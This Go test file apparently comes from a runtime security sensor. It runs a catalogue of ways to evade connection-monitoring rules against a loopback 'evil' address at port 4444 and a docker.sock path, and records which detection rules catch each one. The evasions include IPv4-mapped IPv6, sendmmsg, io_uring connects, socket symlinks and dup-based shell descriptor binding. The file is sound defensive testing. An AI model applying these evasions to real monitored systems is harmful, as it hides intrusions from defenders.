package evasion

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"testing"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/saker-sensor/saker/internal/testutil"
)

// TestNetwork: ways to reach an address past rules about connections.
func TestNetwork(t *testing.T) { try(t, networks) }

// The address that rules are about: it is this machine's, and nobody listens at its port.
var (
	evil  = [4]byte{127, 66, 6, 6}
	other = [4]byte{127, 77, 7, 7}
)

const (
	evilConnected = "evt.type = connect and fd.sip = 127.66.6.6 and fd.sport = 4444"
	evilTalkedTo  = "evt.type in (connect, sendto, sendmsg) and fd.sip = 127.66.6.6"
	socketUsed    = "evt.type = connect and fd.type = unix and fd.name endswith DIR/docker.sock"
	shellBound    = "evt.type in (dup, dup2, dup3) and evt.rawres in (0, 1, 2) and fd.type in (ipv4, ipv6)"
)

const notConnected = "no connect is called"

var networks = []technique{
	{"connect", func(string) error {
		return connectTCP(unix.AF_INET, &unix.SockaddrInet4{Addr: evil, Port: 4444})
	}, []expectation{seen(evilConnected, "evt.res=SUCCESS", "fd.l4proto=tcp")}},
	{"connect that is refused", func(string) error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		return errors.Join(err, refused(unix.Connect(fd, &unix.SockaddrInet4{Addr: evil, Port: 4444})))
	}, []expectation{
		gap(evilConnected, "a socket that was refused has no other end, as in Falco"),
		seen(`evt.type = connect and evt.arg.addr = "127.66.6.6:4444"`, "evt.res=ECONNREFUSED"),
	}},
	{"IPv4 address in IPv6", func(string) error {
		mapped := [16]byte{10: 0xff, 11: 0xff, 12: evil[0], 13: evil[1], 14: evil[2], 15: evil[3]}
		return connectTCP(unix.AF_INET6, &unix.SockaddrInet6{Addr: mapped, Port: 4444})
	}, []expectation{seen(evilConnected, "evt.res=SUCCESS", "fd.l4proto=tcp")}},
	{"connect by datagrams", func(string) error {
		fd, err := datagrams()
		return errors.Join(err, unix.Connect(fd, &unix.SockaddrInet4{Addr: evil, Port: 4444}))
	}, []expectation{seen(evilConnected, "fd.l4proto=udp")}},
	{"connected again", func(string) error {
		fd, err := datagrams()
		return errors.Join(err, unix.Connect(fd, &unix.SockaddrInet4{Addr: other, Port: 80}),
			unix.Connect(fd, &unix.SockaddrInet4{Addr: evil, Port: 4444}))
	}, []expectation{seen(evilConnected, "fd.l4proto=udp")}},
	{"sendto without connect", func(string) error {
		fd, err := datagrams()
		return errors.Join(err, unix.Sendto(fd, []byte("x"), 0, &unix.SockaddrInet4{Addr: evil, Port: 4444}))
	}, []expectation{gap(evilConnected, notConnected), seen(evilTalkedTo, "evt.type=sendto", "fd.sport=4444")}},
	{"sendto past the peer", func(string) error {
		fd, err := datagrams()
		return errors.Join(err, unix.Connect(fd, &unix.SockaddrInet4{Addr: other, Port: 80}),
			unix.Sendto(fd, []byte("x"), 0, &unix.SockaddrInet4{Addr: evil, Port: 4444}))
	}, []expectation{
		gap("evt.type in (sendto, sendmsg) and fd.sip = 127.66.6.6", "a socket that is connected keeps its other end, as in Falco"),
		seen("evt.type = sendto and fd.sip = 127.77.7.7"),
	}},
	{"sendmsg without connect", func(string) error {
		fd, err := datagrams()
		return errors.Join(err, unix.Sendmsg(fd, []byte("x"), nil, &unix.SockaddrInet4{Addr: evil, Port: 4444}, 0))
	}, []expectation{gap(evilConnected, notConnected), seen(evilTalkedTo, "evt.type=sendmsg", "fd.sport=4444")}},
	{"sendmmsg", func(string) error { return sendmmsg(evil) }, []expectation{
		gap(evilTalkedTo, "the rule does not name it"),
		seen("evt.type = sendmmsg and fd.sip = 127.66.6.6", "evt.rawres=1"),
	}},
	{"sendmmsg, second message", func(string) error { return sendmmsg(other, evil) }, []expectation{
		gap("evt.type = sendmmsg and fd.sip = 127.66.6.6", "the first message is shown, with the number of messages; Falco shows each"),
		seen("evt.type = sendmmsg and evt.rawres > 1", "fd.sip=127.77.7.7"),
	}},
	{"connection with the first data", func(string) error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return err
		}
		return refused(unix.Sendto(fd, []byte("x"), unix.MSG_FASTOPEN, &unix.SockaddrInet4{Addr: evil, Port: 4444}))
	}, []expectation{gap(evilConnected, notConnected), seen(evilTalkedTo, "evt.type=sendto", "fd.l4proto=tcp")}},
	{"connect by io_uring", func(string) error { return ringConnect(evil) }, []expectation{
		seen("evt.type = connect and fd.sip = 127.66.6.6", "evt.is_io_uring=true"),
	}},
	{"unix socket by a relative path", func(dir string) error {
		return errors.Join(listenUnix(dir+"/docker.sock"), os.Chdir(dir), connectUnix("docker.sock"))
	}, []expectation{seen(socketUsed, "fd.name=*DIR/docker.sock")}},
	{"unix socket by a symlink", func(dir string) error {
		return errors.Join(listenUnix(dir+"/docker.sock"), os.Symlink("docker.sock", dir+"/link"), connectUnix(dir+"/link"))
	}, []expectation{seen(socketUsed, "fd.name=*DIR/docker.sock")}},
	{"unix socket by a hard link", func(dir string) error {
		return errors.Join(listenUnix(dir+"/docker.sock"), os.Link(dir+"/docker.sock", dir+"/link"), connectUnix(dir+"/link"))
	}, []expectation{seen(socketUsed, "fd.name=*DIR/docker.sock")}},
	{"socket bound by dup", func(string) error {
		return bound(func(s int) error { _, err := unix.Dup(s); return err })
	}, []expectation{seen(shellBound, "evt.type=dup", "evt.rawres=0", "fd.type=ipv4")}},
	{"socket bound by fcntl", func(string) error {
		return bound(func(s int) error { _, err := unix.FcntlInt(uintptr(s), unix.F_DUPFD, 0); return err })
	}, []expectation{
		gap(shellBound, "the rule does not name it"),
		seen("evt.type = fcntl and evt.arg.cmd = F_DUPFD and evt.rawres in (0, 1, 2) and fd.type in (ipv4, ipv6)", "evt.rawres=0"),
	}},
	{"socket made in its place", func(string) error {
		unix.Close(0)
		_, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		return err
	}, []expectation{
		gap(shellBound, "nothing is copied: the first free descriptor is 0"),
		seen("evt.type = socket and evt.rawres in (0, 1, 2)", "evt.rawres=0"),
	}},
}

// connectTCP connects to an address at which it listens.
func connectTCP(family int, to unix.Sockaddr) error {
	listener, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(family, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if errors.Is(err, unix.EAFNOSUPPORT) {
		return skip("there is no IPv6 here")
	}
	return errors.Join(err, unix.SetsockoptInt(listener, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1),
		unix.Bind(listener, &unix.SockaddrInet4{Addr: evil, Port: 4444}), unix.Listen(listener, 1), unix.Connect(fd, to))
}

func refused(err error) error {
	if errors.Is(err, unix.ECONNREFUSED) {
		return nil
	}
	return fmt.Errorf("the connection was not refused: %w", err)
}

func datagrams() (int, error) { return unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0) }

// inet4 is an address as the kernel takes it, at port 4444.
func inet4(addr [4]byte) []byte {
	b := binary.NativeEndian.AppendUint16(nil, unix.AF_INET)
	b = binary.BigEndian.AppendUint16(b, 4444)
	return append(append(b, addr[:]...), make([]byte, 8)...)
}

// sendmmsg sends a datagram to each address by one call.
func sendmmsg(to ...[4]byte) error {
	fd, err := datagrams()
	if err != nil {
		return err
	}
	type message struct {
		unix.Msghdr
		sent uint32
		_    [4]byte
	}
	data := []byte("x")
	messages := make([]message, len(to))
	for i, a := range to {
		name := inet4(a)
		iov := unix.Iovec{Base: &data[0], Len: 1}
		messages[i].Name, messages[i].Namelen, messages[i].Iov, messages[i].Iovlen = &name[0], uint32(len(name)), &iov, 1
	}
	n, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&messages[0])), uintptr(len(to)), 0, 0, 0)
	if errno != 0 || int(n) != len(to) {
		return fmt.Errorf("send messages: %d of %d: %w", n, len(to), errno)
	}
	return nil
}

func ringConnect(to [4]byte) error {
	fd, err := datagrams()
	if err != nil {
		return err
	}
	r, err := testutil.NewUring(4, nil)
	if err != nil {
		return err
	}
	addr := inet4(to)
	res, err := r.One(testutil.Operation(opConnect, fd, string(addr), nil, uint64(len(addr)), 0, 0))
	if err == nil && res < 0 {
		err = unix.Errno(-res)
	}
	return err
}

func listenUnix(path string) error {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	return errors.Join(unix.Bind(fd, &unix.SockaddrUnix{Name: path}), unix.Listen(fd, 4))
}

func connectUnix(path string) error {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	return unix.Connect(fd, &unix.SockaddrUnix{Name: path})
}

// bound frees descriptor 0 and has a connected socket copied to it.
func bound(dup func(int) error) error {
	fd, err := datagrams()
	if err := errors.Join(err, unix.Connect(fd, &unix.SockaddrInet4{Addr: evil, Port: 4444})); err != nil {
		return err
	}
	unix.Close(0)
	return dup(fd)
}
